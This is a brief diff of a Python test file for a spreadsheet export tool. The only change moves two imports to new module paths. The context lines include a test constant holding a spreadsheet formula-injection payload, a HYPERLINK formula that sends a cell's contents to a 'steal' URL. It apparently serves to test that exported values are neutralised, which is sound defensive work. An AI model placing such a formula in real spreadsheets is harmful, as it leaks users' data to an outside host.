@@ -8,8 +8,8 @@ import json
 import openpyxl
 import pytest
 
-from csassess.batch import mark_batch
-from csassess.export import neutralise
+from csassess.batch.run import mark_batch
+from csassess.interop.export import neutralise
 
 EVIL = '=HYPERLINK("http://example.com/steal?"&A1,"Click me")'
 
